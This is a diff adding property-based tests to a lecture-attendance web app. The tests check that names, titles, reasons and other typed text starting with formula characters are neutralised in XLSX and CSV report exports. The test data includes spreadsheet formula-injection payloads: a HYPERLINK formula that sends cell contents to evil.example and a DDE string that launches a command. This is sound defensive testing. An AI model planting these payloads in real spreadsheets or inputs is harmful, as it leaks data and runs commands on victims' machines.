@@ -653,6 +653,104 @@ def test_report_year_filters(client, scene, year, fmt):
         judge(client.get(url, query_string=params), before, success=(200,))
 
 
+# --- formula injection: text a user typed never becomes a formula in an export --------------------------------
+
+FORMULA_LEADS = ["=", "+", "-", "@", "\t", "\r", "=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"详情\")",
+                 "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "=1+1", "\t=1+1", "\r@x"]
+PRINTABLE = "".join(ch for ch in SCRIPTS if ch not in "\ufeff")
+formula_text = st.builds(lambda lead, rest: lead + rest, st.sampled_from(FORMULA_LEADS),
+                         st.text(alphabet=st.sampled_from(PRINTABLE), max_size=30))
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
+
+
+def export_urls(scene) -> list[tuple[str, str]]:
+    """(user, url) of every download, each as XLSX and as CSV."""
+    lecture, course, venue = scene["lecture"], scene["course"], scene["branch_a"]
+    urls = [("coord01", f"/reports/lectures/{lecture}"), ("coord01", f"/reports/lectures/{lecture}/venues/{venue}"),
+            ("coord01", f"/reports/courses/{course}/venues/{venue}"), ("coord01", "/reports/hours"),
+            ("coord01", f"/reports/hours/venues/{venue}"), ("coord01", f"/lectures/{lecture}/quiz/analysis"),
+            ("admin", "/reports/overview?table=matrix"), ("admin", "/reports/overview?table=trend"),
+            ("admin", "/reports/overview?table=ranking"), ("m0001", "/reports/me?table=attendance"),
+            ("m0001", "/reports/me?table=quizzes")]
+    return [(user, f"{url}{'&' if '?' in url else '?'}format={fmt}") for user, url in urls for fmt in ("xlsx", "csv")]
+
+
+def assert_no_formula(url: str, data: bytes) -> list[str]:
+    """Every text cell that a spreadsheet would read as a formula is neutralised; returns the texts."""
+    if "format=xlsx" in url:
+        from openpyxl import load_workbook
+
+        cells = [c for row in load_workbook(io.BytesIO(data)).active.iter_rows() for c in row]
+        assert not [c.coordinate for c in cells if c.data_type == "f"], url
+        texts = [c.value for c in cells if isinstance(c.value, str)]
+    else:
+        import csv
+
+        texts = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
+        texts = [t for t in texts if not _is_number(t)]
+    assert not [t for t in texts if t.startswith(TRIGGERS)], url
+    return texts
+
+
+@pytest.fixture
+def export_clients(app):
+    """Signed-in clients by user name, kept for all examples of a test (a sign-in hashes slowly on purpose)."""
+    clients = {}
+
+    def client_for(username: str):
+        if username not in clients:
+            clients[username] = app.test_client()
+            clients[username].login(username)
+        return clients[username]
+
+    return client_for
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text.rstrip("%"))
+    except ValueError:
+        return False
+    return True
+
+
+@settings(FUZZ, max_examples=8)
+@given(texts=st.fixed_dictionaries({key: formula_text for key in (
+    "name", "other_name", "member_no", "venue", "title", "stem", "reason", "leave_reason", "note")}))
+def test_formula_leading_text_is_never_a_formula_in_any_export(export_clients, scene, texts):
+    """Names, numbers, venue, lecture title, question stem, roster reason, leave reason and decision note."""
+    from lecturehub.attendance.models import AttendanceRecord, LeaveRequest, LeaveState, Status
+    from lecturehub.courses.models import Lecture
+    from lecturehub.venues.models import Venue
+
+    lecture = db.session.get(Lecture, scene["lecture"])
+    coordinator = db.session.get(User, scene["coord_a"])
+    member, other = db.session.get(User, scene["member_a"]), db.session.get(User, scene["member_a2"])
+    member.name, other.name, other.member_no = texts["name"], texts["other_name"], texts["member_no"]
+    db.session.get(Venue, scene["branch_a"]).name = texts["venue"]
+    lecture.title = texts["title"]
+    db.session.get(Question, scene["question"]).stem = texts["stem"]
+    db.session.commit()
+    attendance_services.set_status(lecture, member, scene["branch_a"], Status.ABSENT,
+                                   texts["reason"], by=coordinator)
+    leave = db.session.get(LeaveRequest, scene["leave"])
+    if leave.state is LeaveState.PENDING:
+        leave.reason = texts["leave_reason"]
+        attendance_services.decide_leave(leave, approve=True, by=coordinator, note=texts["note"])
+    else:
+        db.session.execute(sa.update(AttendanceRecord).where(
+            AttendanceRecord.user_id == other.id).values(reason=texts["leave_reason"]))
+        db.session.commit()
+    neutralised = set()
+    for user, url in export_urls(scene):
+        response = export_clients(user).get(url)
+        assert response.status_code == 200, (url, response.status_code)
+        neutralised.update(t for t in assert_no_formula(url, response.data) if t.startswith("'"))
+    # The typed texts did reach the exports, neutralised (XLSX keeps a carriage return as a line feed).
+    for key in ("name", "venue", "stem", "reason", "leave_reason"):
+        assert any(t.replace("\n", "\r") == "'" + texts[key].replace("\n", "\r") for t in neutralised), key
+
+
 # --- limits --------------------------------------------------------------------------------------------------------
 
 def test_body_over_the_limit_gets_413_in_chinese(app, client, scene):
